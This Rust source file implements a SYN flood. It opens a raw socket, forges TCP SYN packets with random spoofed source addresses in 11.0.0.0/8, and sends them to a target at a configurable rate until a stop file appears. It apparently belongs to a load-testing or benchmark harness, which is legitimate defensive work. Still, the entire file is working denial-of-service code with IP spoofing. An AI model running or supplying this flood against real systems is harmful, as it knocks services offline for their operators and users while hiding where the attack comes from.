//! SYNs from random sources, as fast as is asked for.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::path::Path;
use std::thread;
use std::time::{Duration, Instant};

use smoltcp::phy::ChecksumCapabilities;
use smoltcp::wire::{
    IpProtocol, Ipv4Packet, Ipv4Repr, TcpControl, TcpPacket, TcpRepr, TcpSeqNumber,
};
use socket2::{Domain, Protocol, Socket, Type};

use super::say_ready;

const IPPROTO_RAW: i32 = 255;

pub fn syn_flood(address: &str, rate: &str, file: &str) -> io::Result<()> {
    let server: SocketAddrV4 = address.parse().map_err(io::Error::other)?;
    let rate: u64 = rate.parse().map_err(io::Error::other)?;
    // The headers are ours (raw(7)).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    let to = SocketAddr::from(server).into();
    let (mut random, mut sent, mut lost) = (0x2545_f491_4f6c_dd1d_u64, 0, 0);
    say_ready()?;
    let began = Instant::now();
    loop {
        if sent % 500 == 0 && Path::new(file).exists() {
            break;
        }
        if sent > began.elapsed().as_millis() as u64 * rate / 1000 {
            thread::sleep(Duration::from_millis(1));
            continue;
        }
        // xorshift64 (Marsaglia, 2003).
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        match socket.send_to(&forged_syn(server, random), &to) {
            Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => lost += 1,
            done => drop(done?),
        }
        sent += 1;
    }
    let took = began.elapsed();
    println!("{} SYNs in {} ms", sent - lost, took.as_millis());
    Ok(())
}

fn forged_syn(server: SocketAddrV4, random: u64) -> Vec<u8> {
    let checksums = ChecksumCapabilities::default();
    let source = Ipv4Addr::from_bits(11 << 24 | random as u32 >> 8);
    let segment = TcpRepr {
        src_port: (random >> 32) as u16 | 1024,
        dst_port: server.port(),
        control: TcpControl::Syn,
        seq_number: TcpSeqNumber((random >> 16) as i32),
        ack_number: None,
        window_len: 65_535,
        window_scale: None,
        max_seg_size: Some(1460),
        sack_permitted: false,
        sack_ranges: [None; 3],
        timestamp: None,
        payload: &[],
    };
    let header = Ipv4Repr {
        src_addr: source,
        dst_addr: *server.ip(),
        next_header: IpProtocol::Tcp,
        payload_len: segment.buffer_len(),
        hop_limit: 64,
    };
    let mut bytes = vec![0xa5; header.buffer_len() + segment.buffer_len()];
    let mut packet = Ipv4Packet::new_unchecked(&mut bytes[..]);
    header.emit(&mut packet, &checksums);
    let (from, to) = (source.into(), (*server.ip()).into());
    let mut inner = TcpPacket::new_unchecked(packet.payload_mut());
    segment.emit(&mut inner, &from, &to, &checksums);
    bytes
}
